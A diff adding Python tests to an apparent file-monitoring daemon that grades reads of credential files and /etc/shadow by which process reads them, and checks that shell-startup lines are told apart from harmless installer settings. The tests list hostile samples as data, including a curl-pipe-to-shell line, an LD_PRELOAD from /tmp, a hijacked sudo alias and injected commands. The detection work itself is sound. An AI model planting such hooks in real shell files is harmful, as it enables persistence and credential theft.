@@ -110,3 +110,55 @@ def test_parse_events_reads_both_handles_and_the_name_and_stops_on_garbage() -> 
     # a record claiming a zero length ends the parse instead of looping
     bad = filewatch.EVENT_HEADER.pack(0, 3, 0, meta, filewatch.FAN_OPEN, -1, 99)
     assert list(filewatch.parse_events(bad)) == []
+
+
+def test_a_credential_file_read_by_its_own_genuine_program_is_a_warning() -> None:
+    hosts = FileEvent(
+        "/home/code/.config/gh/hosts.yml", "read", 42, spec("file.credential-read", "read")
+    )
+    assert judge(hosts, alive("/usr/bin/gh", "gh", "pr", "list"), False)[0] == "warning"
+    assert judge(hosts, alive("/usr/bin/gh", "gh", "--version"), True)[0] == "warning"  # canary
+    assert judge(hosts, alive("/usr/bin/gh", "gh", genuine=False), False)[0] == "high"
+    assert judge(hosts, alive("/usr/bin/docker", "docker", "ps"), False)[0] == "high"
+    store = FileEvent(
+        "/home/code/.git-credentials", "read", 42, spec("file.credential-read", "read")
+    )
+    helper = ("git", "credential-store", "get")
+    remote = ("/usr/lib/git-core/git-remote-https",)
+    git = "/usr/lib/git-core/git"
+    assert judge(store, alive(git, *helper, ancestors=remote), False)[0] == "warning"
+    # asked by a shell (`git credential fill` prints the password): not a remote's helper
+    assert judge(store, alive(git, *helper, ancestors=("/usr/bin/bash",)), False)[0] == "high"
+
+
+def test_debconf_reading_shadow_is_a_warning_and_perl_alone_is_not() -> None:
+    debconf = alive("/usr/bin/perl", "perl", "-w", "/usr/sbin/dpkg-preconfigure", "--apt")
+    debconf.debconf = True  # the daemon checked the script and the environment
+    assert judge(SHADOW, debconf, False)[0] == "warning"
+    assert judge(SHADOW, alive("/usr/bin/perl", "perl", "-e", "getpwnam"), False)[0] == "high"
+
+
+def test_lines_installers_append_are_settings_and_hooks_are_not() -> None:
+    settings = (
+        'export PATH="$HOME/.local/bin:$PATH"',
+        '. "$HOME/.cargo/env"',
+        "alias gs='git status'",
+        'export NVM_DIR="$HOME/.nvm"',
+        "# added by an installer",
+    )
+    for line in settings:
+        assert filewatch.BENIGN_LINE.fullmatch(line) and not filewatch.UNSAFE_PATH.match(line)
+    hooks = (
+        "export LD_PRELOAD=/tmp/x.so",
+        "curl -s http://x/i | sh",
+        "alias sudo='/tmp/s'",
+        "export X=$(curl x)",
+        'PROMPT_COMMAND="x"',
+        "export FOO=`id`",
+        'eval "$(pyenv init -)"',
+        "X=a;id",
+    )
+    for line in hooks:
+        assert not filewatch.BENIGN_LINE.fullmatch(line), line
+    assert filewatch.UNSAFE_PATH.match("export PATH=/tmp/x:$PATH")
+    assert filewatch.UNSAFE_PATH.match("PATH=.:$PATH")
